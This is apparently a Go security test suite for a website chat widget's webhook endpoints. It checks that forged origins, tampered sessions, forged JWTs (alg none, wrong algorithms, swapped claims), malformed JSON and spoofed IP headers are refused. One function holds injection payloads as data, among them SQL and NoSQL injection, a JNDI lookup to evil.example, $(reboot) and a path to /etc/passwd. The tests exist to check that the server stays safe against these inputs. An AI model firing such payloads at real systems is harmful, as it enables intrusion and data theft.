package hostile

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func widgetAttacks() []attack {
	return []attack{
		{"origins", origins},
		{"forged sessions", forgedSessions},
		{"identity proofs", identityProofs},
		{"widget nonsense", widgetNonsense},
		{"operators in every string", operators},
		{"spoofed addresses", spoofedAddresses},
		{"preflights", preflights},
	}
}

func requestID(t *testing.T, r reply) string {
	t.Helper()
	var told struct {
		RequestID string `json:"request_id"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.body), &told), r.body)
	return told.RequestID
}

func badOrigins() []string {
	return []string{
		"null", "https://shop.example.evil.example", "https://evilshop.example", "https://shop.example:8443", "https://shop.example:443", "http://shop.example",
		"https://shop.example/", "https://shop.example/path", "https://user@shop.example", "https://shop.example@evil.example", "https://SHOP.example", "HTTPS://shop.example",
		"https://shop.example.", "https://sub.shop.example", "shop.example", "//shop.example", "https://", "*", "file://", "https://shop.example https://evil.example",
		"https://shop.example,https://evil.example", "https://evil.example#https://shop.example", "https://shop.example%00.evil.example", "https://other.example",
	}
}

func origins(t *testing.T, s *server) {
	v := s.visitor(t)
	try := func(name string, headers ...string) {
		headers = append([]string{"Content-Type", "application/json"}, headers...)
		for path, body := range map[string]string{"": v.widget(widgetInbox, "from elsewhere", ""), "/sessions": `{"inbox_id":"` + widgetInbox + `"}`} {
			r := s.send(t, http.MethodPost, "/webhooks/webwidget"+path, strings.NewReader(body), headers...)
			mustRefuse(t, r, name, http.StatusForbidden, http.StatusUnauthorized)
			if got := r.header.Get("Access-Control-Allow-Origin"); got != "" { // a page of another inbox may read that it was refused
				require.Contains(t, []string{"https://other.example", shopOrigin}, got, name)
			}
			require.Contains(t, r.header.Get("Vary"), "Origin", name)
			require.Empty(t, r.header.Get("Access-Control-Allow-Credentials"))
		}
	}
	for _, origin := range badOrigins() {
		try(origin, "Origin", origin)
	}
	try("none")
	try("empty", "Origin", "")
	try("two, good first", "Origin", shopOrigin, "Origin", "https://evil.example")
	try("two, good last", "Origin", "https://evil.example", "Origin", shopOrigin)
	try("two, both good", "Origin", shopOrigin, "Origin", shopOrigin)
	try("only a referrer", "Referer", shopOrigin+"/")
}

func preflights(t *testing.T, s *server) {
	for _, path := range []string{"/webhooks/webwidget", "/webhooks/webwidget/sessions"} {
		for _, origin := range append(badOrigins(), "") {
			r := s.send(t, http.MethodOptions, path, nil, "Origin", origin, "Access-Control-Request-Method", "POST")
			if origin == "https://other.example" {
				continue // allowed for another inbox; which one is asked for is not known before the body
			}
			mustRefuse(t, r, origin, http.StatusForbidden)
			require.Empty(t, r.header.Get("Access-Control-Allow-Origin"), origin)
		}
		r := s.send(t, http.MethodOptions, path, nil, "Origin", shopOrigin, "Access-Control-Request-Method", "DELETE", "Access-Control-Request-Headers", "authorization,x-evil")
		require.Equal(t, http.StatusNoContent, r.status)
		require.Equal(t, shopOrigin, r.header.Get("Access-Control-Allow-Origin"))
		require.Equal(t, "POST", r.header.Get("Access-Control-Allow-Methods"))
		require.Equal(t, "Content-Type", r.header.Get("Access-Control-Allow-Headers"))
		require.Empty(t, r.header.Get("Access-Control-Allow-Credentials"))
	}
	for _, path := range []string{"/login", "/inbox", "/api/v1/contacts", "/webhooks/whatsapp"} {
		r := s.send(t, http.MethodGet, path, nil, "Origin", shopOrigin)
		require.Empty(t, r.header.Get("Access-Control-Allow-Origin"), "%s is not for other sites", path)
	}
}

func (s *server) mustRefuseWidget(t *testing.T, name, body string, statuses ...int) {
	t.Helper()
	mustRefuse(t, s.send(t, http.MethodPost, "/webhooks/webwidget", strings.NewReader(body), fromShop()...), name, statuses...)
}

func forgedSessions(t *testing.T, s *server) {
	v, other := s.visitor(t), s.visitor(t)
	require.NotEqual(t, v.ID, other.ID)
	raw, err := base64.RawURLEncoding.DecodeString(strings.TrimPrefix(v.Session, "s1."))
	require.NoError(t, err)
	raw[len(raw)-1] ^= 1
	for name, forged := range map[string]visitor{
		"none":                   {ID: v.ID},
		"no visitor":             {Session: v.Session},
		"of another visitor":     {ID: v.ID, Session: other.Session},
		"another's visitor id":   {ID: other.ID, Session: v.Session},
		"one bit off":            {ID: v.ID, Session: "s1." + base64.RawURLEncoding.EncodeToString(raw)},
		"cut":                    {ID: v.ID, Session: v.Session[:len(v.Session)-4]},
		"longer":                 {ID: v.ID, Session: v.Session + "A"},
		"another version":        {ID: v.ID, Session: "s2." + v.Session[3:]},
		"no version":             {ID: v.ID, Session: v.Session[3:]},
		"padded":                 {ID: v.ID, Session: v.Session + "="},
		"signed with the secret": {ID: v.ID, Session: "s1." + mac(widgetSecret, widgetInbox+v.ID)},
		"id with a space":        {ID: v.ID + " ", Session: v.Session},
		"id in capitals":         {ID: strings.ToUpper(v.ID), Session: v.Session},
		"id and separator":       {ID: widgetInbox + v.ID, Session: v.Session},
		"huge":                   {ID: strings.Repeat("a", 100_000), Session: strings.Repeat("b", 100_000)},
	} {
		s.mustRefuseWidget(t, name, forged.widget(widgetInbox, "forged "+name, ""), http.StatusUnauthorized)
	}
	s.mustRefuseWidget(t, "of another inbox", v.widget(otherInbox, "moved", ""), http.StatusForbidden, http.StatusUnauthorized)
	r := s.send(t, http.MethodPost, "/webhooks/webwidget", strings.NewReader(v.widget(otherInbox, "moved", "")), "Content-Type", "application/json", "Origin", "https://other.example")
	mustRefuse(t, r, "of another inbox, from its page", http.StatusUnauthorized)
	s.mustRefuseWidget(t, "unknown inbox", v.widget("wgt_nobody", "lost", ""), http.StatusForbidden)

	inner := func(more string) string {
		return fmt.Sprintf(`{"v":1,"inbox_id":"%s","visitor":{"id":"%s","session_id":"%s"},"batch":[{"event":"message.created","message":{"client_id":"b","text":"x"}%s}]}`, widgetInbox, v.ID, v.Session, more)
	}
	s.mustRefuseWidget(t, "another visitor inside a flush", inner(fmt.Sprintf(`,"visitor":{"id":"%s","session_id":"%s"}`, other.ID, other.Session)), http.StatusUnprocessableEntity)
	s.mustRefuseWidget(t, "another inbox inside a flush", inner(`,"inbox_id":"`+otherInbox+`"`), http.StatusUnprocessableEntity)
	s.mustRefuseWidget(t, "another session inside a flush", inner(fmt.Sprintf(`,"visitor":{"session_id":"%s"}`, other.Session)), http.StatusUnauthorized)
	s.mustRefuseWidget(t, "an identity inside a flush", inner(`,"visitor":{"external_id":"vip"}`), http.StatusUnauthorized)
	got := s.verdicts(t, s.accepted(t, "webwidget", v.widget(widgetInbox, "the real one", ""), fromShop()...))
	require.Equal(t, "applied", got[0].Verdict)
}

func token(alg, claims, secret string) string {
	head := base64.RawURLEncoding.EncodeToString([]byte(alg)) + "." + base64.RawURLEncoding.EncodeToString([]byte(claims))
	return head + "." + base64.RawURLEncoding.EncodeToString(rawMAC(alg, secret, head))
}

func identityProofs(t *testing.T, s *server) {
	const vip = "vip-customer-1"
	s.mustStaySecret(vip)
	soon, past := time.Now().Add(time.Hour).Unix(), time.Now().Add(-time.Hour).Unix()
	claims := func(more string) string { return fmt.Sprintf(`{"sub":"%s"%s}`, vip, more) }
	exp := fmt.Sprintf(`,"exp":%d`, soon)
	const hs256 = `{"alg":"HS256","typ":"JWT"}`
	jwt := func(s string) string { return `,"jwt":"` + s + `"` }
	good := token(hs256, claims(exp), widgetSecret)
	parts := strings.Split(good, ".")
	for name, more := range map[string]string{
		"nothing":                 `,"external_id":"` + vip + `"`,
		"hash of another id":      `,"external_id":"` + vip + `","user_hash":"` + mac(widgetSecret, "somebody") + `"`,
		"hash of another inbox":   `,"external_id":"` + vip + `","user_hash":"` + mac("another-"+widgetSecret, vip) + `"`,
		"hash of nobody":          `,"user_hash":"` + mac(widgetSecret, "") + `"`,
		"hash without secret":     `,"external_id":"` + vip + `","user_hash":"` + mac("", vip) + `"`,
		"hash cut":                `,"external_id":"` + vip + `","user_hash":"` + mac(widgetSecret, vip)[:32] + `"`,
		"hash as a list":          `,"external_id":"` + vip + `","user_hash":["` + mac(widgetSecret, vip) + `"]`,
		"alg none":                jwt(token(`{"alg":"none"}`, claims(exp), "")),
		"alg none, no signature":  jwt(base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + parts[1] + "."),
		"alg None":                jwt(token(`{"alg":"nOnE"}`, claims(exp), "")),
		"alg HS512":               jwt(token(`{"alg":"HS512"}`, claims(exp), widgetSecret)),
		"alg HS384":               jwt(token(`{"alg":"HS384"}`, claims(exp), widgetSecret)),
		"alg RS256":               jwt(token(`{"alg":"RS256"}`, claims(exp), widgetSecret)),
		"alg missing":             jwt(token(`{}`, claims(exp), widgetSecret)),
		"alg as a list":           jwt(token(`{"alg":["HS256"]}`, claims(exp), widgetSecret)),
		"another secret":          jwt(token(hs256, claims(exp), "guess")),
		"another inbox's":         jwt(token(hs256, claims(exp), "another-"+widgetSecret)),
		"key in the header":       jwt(token(`{"alg":"HS256","jwk":{"kty":"oct","k":"AA"},"kid":"../../dev/null"}`, claims(exp), "")),
		"no exp":                  jwt(token(hs256, claims(""), widgetSecret)),
		"exp null":                jwt(token(hs256, claims(`,"exp":null`), widgetSecret)),
		"expired":                 jwt(token(hs256, claims(fmt.Sprintf(`,"exp":%d`, past)), widgetSecret)),
		"not yet":                 jwt(token(hs256, claims(exp+fmt.Sprintf(`,"nbf":%d`, soon)), widgetSecret)),
		"no sub":                  jwt(token(hs256, fmt.Sprintf(`{"exp":%d}`, soon), widgetSecret)),
		"empty sub":               jwt(token(hs256, fmt.Sprintf(`{"sub":"","exp":%d}`, soon), widgetSecret)),
		"sub as an operator":      jwt(token(hs256, fmt.Sprintf(`{"sub":{"$ne":""},"exp":%d}`, soon), widgetSecret)),
		"claims exchanged":        jwt(parts[0] + "." + base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"sub":"admin","exp":%d}`, soon))) + "." + parts[2]),
		"signature cut":           jwt(parts[0] + "." + parts[1] + "."),
		"two parts":               jwt(parts[0] + "." + parts[1]),
		"five parts":              jwt(good + ".a.b"),
		"not a token":             jwt("x"),
		"huge":                    jwt(strings.Repeat("A", 100_000)),
		"token of somebody else":  `,"external_id":"somebody"` + jwt(good),
		"good token, wrong hash":  `,"external_id":"` + vip + `","user_hash":"` + mac(widgetSecret, "somebody") + `"` + jwt(good),
		"good hash, wrong token":  `,"external_id":"` + vip + `","user_hash":"` + mac(widgetSecret, vip) + `"` + jwt(token(hs256, claims(exp), "guess")),
		"control in external id":  `,"external_id":"vip\u0000","user_hash":"` + mac(widgetSecret, "vip\x00") + `"`,
		"operator as external id": `,"external_id":{"$ne":null}`,
	} {
		v := s.visitor(t)
		s.mustRefuseWidget(t, name, v.widget(widgetInbox, "I am a vip", more), http.StatusUnauthorized, http.StatusUnprocessableEntity)
	}
	v := s.visitor(t)
	got := s.verdicts(t, s.accepted(t, "webwidget", v.widget(widgetInbox, "I really am", jwt(good)), fromShop()...))
	require.Equal(t, vip, got[0].ContactKey)
	require.True(t, got[0].Verified)

	claimed := s.visitor(t)
	got = s.verdicts(t, s.accepted(t, "webwidget", claimed.widget(widgetInbox, "call me the vip", `,"name":"VIP","email":"vip@hostile.example"`), fromShop()...))
	require.Equal(t, claimed.ID, got[0].ContactKey, "a claim makes nobody somebody")
	require.False(t, got[0].Verified)
}

func widgetNonsense(t *testing.T, s *server) {
	v := s.visitor(t)
	const deep = 100_000
	message := func(m string) string {
		return fmt.Sprintf(`{"inbox_id":"%s","event":"message.created","visitor":{"id":"%s","session_id":"%s"},"message":%s}`, widgetInbox, v.ID, v.Session, m)
	}
	for name, body := range map[string]string{
		"empty":               "",
		"null":                "null",
		"array":               "[]",
		"cut off":             `{"inbox_id":"`,
		"deep":                strings.Repeat("[", deep),
		"deep object":         `{"x":` + strings.Repeat(`{"x":`, deep),
		"deep message":        message(strings.Repeat("[", deep) + strings.Repeat("]", deep)),
		"deep beside":         message(`{"client_id":"c","text":"x","more":` + strings.Repeat(`{"a":`, deep) + "1" + strings.Repeat("}", deep) + `}`),
		"invalid UTF-8":       message("{\"client_id\":\"c\",\"text\":\"\xff\"}"),
		"raw NUL":             message("{\"client_id\":\"c\",\"text\":\"\x00\"}"),
		"only invisible":      message(`{"client_id":"c","text":"\u200b\u0000\u00a0"}`),
		"too long":            message(`{"client_id":"c","text":"` + strings.Repeat("x", 10_001) + `"}`),
		"no client id":        message(`{"text":"x"}`),
		"numeric client id":   message(`{"client_id":9007199254740993,"text":"x"}`),
		"control in id":       message(`{"client_id":"a\u0000b","text":"x"}`),
		"endless id":          message(`{"client_id":"` + strings.Repeat("x", 200_000) + `","text":"x"}`),
		"text as operator":    message(`{"client_id":"c","text":{"$where":"1"}}`),
		"message is a list":   message(`[]`),
		"two bodies":          message(`{"client_id":"c","text":"x"}`) + "{}",
		"huge flush":          fmt.Sprintf(`{"inbox_id":"%s","visitor":{"id":"%s","session_id":"%s"},"batch":[%snull]}`, widgetInbox, v.ID, v.Session, strings.Repeat("{},", 50_000)),
		"empty flush":         fmt.Sprintf(`{"inbox_id":"%s","visitor":{"id":"%s","session_id":"%s"},"batch":[]}`, widgetInbox, v.ID, v.Session),
		"flush in a flush":    fmt.Sprintf(`{"inbox_id":"%s","visitor":{"id":"%s","session_id":"%s"},"batch":[{"batch":[{"event":"x"}]}]}`, widgetInbox, v.ID, v.Session),
		"version of tomorrow": fmt.Sprintf(`{"v":1e400,"inbox_id":"%s","visitor":{"id":"%s","session_id":"%s"},"event":"x"}`, widgetInbox, v.ID, v.Session),
	} {
		s.mustRefuseWidget(t, name, body, http.StatusUnprocessableEntity, http.StatusUnauthorized, http.StatusForbidden, http.StatusTooManyRequests)
	}
	v = s.visitor(t) // the other has used up its turn
	for name, body := range map[string]string{"deep": strings.Repeat("[", deep), "null": "null", "operator": `{"inbox_id":{"$ne":""}}`, "empty": "", "number": `{"inbox_id":7}`} {
		r := s.send(t, http.MethodPost, "/webhooks/webwidget/sessions", strings.NewReader(body), fromShop()...)
		mustRefuse(t, r, "session, "+name, http.StatusUnprocessableEntity, http.StatusForbidden)
	}
	surrogates := s.verdicts(t, s.accepted(t, "webwidget", strings.Replace(v.widget(widgetInbox, "SURROGATE", ""), "SURROGATE", `a\ud800b\udc00 1e400`, 1), fromShop()...))
	require.Equal(t, "a\ufffdb\ufffd 1e400", surrogates[0].Text)
	s.mustHandleGood(t)
}

// operators puts what databases and shells would obey into every string there is, and finds it again as text.
func operators(t *testing.T, s *server) {
	for i, bad := range []string{
		`{"$where":"sleep(5000)"}`, `$where`, `$ne`, `'; DROP TABLE contacts; --`, `" OR ""="`, `%' OR 1=1 --`, `{{.Secret}}`, `${jndi:ldap://evil.example/a}`, `$(reboot)`, "`reboot`",
		`../../../../etc/passwd`, `%00`, `a.b.$c`, `\x27`, `*`, `.*`, `NULL`,
	} {
		v := s.visitor(t, "User-Agent", bad)
		q := quoted(bad)
		body := fmt.Sprintf(`{"v":1,"inbox_id":"%s","event":"message.created","event_id":%s,"visitor":{"id":"%s","session_id":"%s","name":%s,"email":%s,"phone":%s},`+
			`"message":{"client_id":%s,"type":%s,"text":%s,"reply_to":%s,"attachments":[{"upload_id":%s,"mime_type":%s,"name":%s}]},"prechat":{"name":%s,"department":%s,"phone_country":%s},`+
			`"page":{"url":%s,"title":%s,"referrer":%s},"client":{"user_agent":%s,"locale":%s,"timezone":%s,"screen":%s}}`,
			widgetInbox, q, v.ID, v.Session, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q, q)
		got := s.verdicts(t, s.accepted(t, "webwidget", body, fromShop("User-Agent", bad)...))
		require.Len(t, got, 1, bad)
		require.Equal(t, "applied", got[0].Verdict, "%d: %s: %s", i, bad, got[0].Reason)
		require.Equal(t, bad, got[0].Text)
		require.Equal(t, bad, got[0].MessageID)
		require.Equal(t, v.ID, got[0].ContactKey)
		var conversation struct {
			Messages []struct {
				Text string `json:"text"`
			} `json:"messages"`
		}
		s.api(t, "/api/v1/conversations/"+got[0].ConversationID, &conversation)
		require.Len(t, conversation.Messages, 1, bad)
		require.Equal(t, bad, conversation.Messages[0].Text)
	}
	for _, name := range []string{`{"$gt":""}`, `["x"]`} { // a value that is no string is no id
		v := s.visitor(t)
		s.mustRefuseWidget(t, name, strings.Replace(v.widget(widgetInbox, "x", ""), `"`+v.ID+`"`, name, 1), http.StatusUnprocessableEntity, http.StatusUnauthorized)
	}
}

// spoofedAddresses: without a trusted proxy the peer of the connection is the visitor, whatever the headers say.
func spoofedAddresses(t *testing.T, s *server) {
	const spoofed = "81.2.69.142"
	for name, headers := range map[string][]string{
		"X-Forwarded-For": {"X-Forwarded-For", spoofed},
		"several":         {"X-Forwarded-For", spoofed + ", 10.0.0.1", "X-Forwarded-For", spoofed},
		"every other spelling": {
			"X-Real-IP", spoofed, "Forwarded", "for=" + spoofed, "True-Client-IP", spoofed, "CF-Connecting-IP", spoofed, "X-Client-IP", spoofed, "X-Cluster-Client-IP", spoofed,
			"Via", "1.1 " + spoofed, "X-Originating-IP", spoofed, "Fastly-Client-IP", spoofed, "X_Forwarded_For", spoofed, "X-Forwarded", spoofed,
		},
	} {
		require.Equal(t, "127.0.0.1", s.sessionIP(t, headers...), name)
	}
}

// sessionIP is the address that is stored for a new visitor who writes with these headers.
func (s *server) sessionIP(t *testing.T, headers ...string) string {
	t.Helper()
	v := s.visitor(t, headers...)
	got := s.verdicts(t, s.accepted(t, "webwidget", v.widget(widgetInbox, "where am I "+rand.Text(), ""), fromShop(headers...)...))
	require.Equal(t, "applied", got[0].Verdict, got[0].Reason)
	var conversation struct {
		Session struct {
			IP string `json:"ip"`
		} `json:"session"`
	}
	s.api(t, "/api/v1/conversations/"+got[0].ConversationID, &conversation)
	return conversation.Session.IP
}
